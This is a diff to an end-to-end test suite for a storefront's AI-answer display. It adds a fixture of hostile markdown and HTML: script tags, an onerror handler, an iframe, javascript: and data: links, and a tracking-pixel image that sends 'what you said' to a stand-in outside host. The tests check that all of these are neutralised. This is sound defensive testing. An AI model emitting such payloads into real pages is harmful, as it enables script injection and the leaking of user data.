@@ -43,12 +43,22 @@ const endings = {
   stopped: { content: "## Three names\n\n- Pap", cost: { credits: 1, is_estimated: true } },
 } as const
 
+/** What a model may be talked into writing. */
+const hostile = [
+  "# Hello",
+  "<script>document.title = 'taken'</script>",
+  "<img src='x' onerror=\"document.title = 'taken'\"> <iframe src='https://elsewhere.example/'></iframe>",
+  "![what you said](https://elsewhere.example/pixel.png?what=you-said)",
+  "[script](javascript:document.title='taken') [data](data:text/html,<script>1</script>) [relative](/fr/fr/account)",
+  "[web](https://elsewhere.example/page)",
+].join("\n\n")
+
 for (const shop of shops) {
   test.describe(`an answer in ${shop.language}`, () => {
     test.use({ locale: shop.language === "fr" ? "fr-FR" : "en-US" })
     test.afterEach(() => void (backend.changed = undefined))
 
-    test("that fails, breaks off, is stopped or still comes says so, without a violation", async ({
+    test("that fails, breaks off, is stopped or still comes says so without a violation, and a hostile one does nothing", async ({
       page,
       context,
     }) => {
@@ -80,6 +90,18 @@ for (const shop of shops) {
         await expect(again).toBeVisible()
         await expectAccessible(page, `an answer that is ${status}`)
       }
+
+      const asked: string[] = []
+      page.on("request", (request) => void asked.push(new URL(request.url()).hostname))
+      await answerIs({ content: hostile })
+      const answer = page.getByRole("article")
+      await expect(answer.getByRole("heading", { name: "Hello" })).toBeVisible()
+      await expect(answer.locator("script, img, iframe, [onerror]")).toHaveCount(0)
+      expect(
+        await answer.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href")))
+      ).toEqual(["https://elsewhere.example/page"])
+      await expect(page).not.toHaveTitle("taken")
+      expect(new Set(asked)).toEqual(new Set([new URL(storefront.url).hostname]))
 
       await answerIs({ status: "streaming", content: "## Three names\n\n- Pap", cost: null })
       await expect(page.getByText(text.answering)).toBeVisible()
